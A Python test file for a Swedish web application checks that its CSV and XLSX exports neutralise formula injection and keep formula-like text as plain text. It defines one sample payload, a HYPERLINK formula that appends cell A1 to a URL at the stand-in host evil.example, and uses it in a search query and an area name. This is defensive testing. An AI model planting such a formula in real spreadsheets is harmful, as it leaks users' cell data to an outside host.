"""Every CSV and XLSX cell the app writes: text that starts like a formula stays text."""
from __future__ import annotations

import io
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from knowledge.taxonomy import changes
from knowledge.core.spreadsheet import append_row, csv_cell

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Klicka här")'


def _cells(book, sheet, wanted):
    return [cell for row in book[sheet].iter_rows() for cell in row if cell.value == wanted]


def test_om_uttaget_keeps_the_searchs_own_words_as_text(client, auth, users):
    auth.login("coordinator")
    response = client.get("/cases/export.xlsx", query_string={"q": EVIL})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    words = _cells(book, "Om uttaget", EVIL)
    assert words and all(cell.data_type == "s" for cell in words)
    for row in book["Om uttaget"].iter_rows():
        assert all(cell.data_type != "f" for cell in row)


def test_an_editor_set_area_name_is_text_in_the_compilation(client, auth, db, users):
    editor = users["editor"]
    new_set = changes.start_area_set(db, editor, "Områden 2027", date(2027, 1, 1),
                                     [("lank", EVIL)])
    new_id = new_set.areas[0].id
    changes.map_areas(db, editor, new_set,
                      {old.id: [new_id] for old in changes.active_area_set(db).areas})
    changes.activate_area_set(db, editor, new_set)
    auth.login("coordinator")
    response = client.get("/sammanstallning.xlsx?year=2024")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    names = _cells(book, "Sammanfattning", EVIL)
    assert names and all(cell.data_type == "s" for cell in names)


@pytest.mark.parametrize("text", ["=1+1", "+46 8 508 000 00", "-2+3", "@SUM(A1)",
                                  "\tgömt", "\rgömt"])
def test_one_writer_for_csv_and_xlsx(text):
    assert csv_cell(text) == "'" + text
    book = Workbook()
    append_row(book.active, [text, 3, date(2024, 1, 2), None])
    row = book.active[1]
    assert (row[0].value, row[0].data_type) == (text, "s")
    assert row[1].data_type == "n" and row[2].number_format == "yyyy-mm-dd"
    saved = io.BytesIO()
    book.save(saved)
    assert load_workbook(saved).active["A1"].data_type == "s"
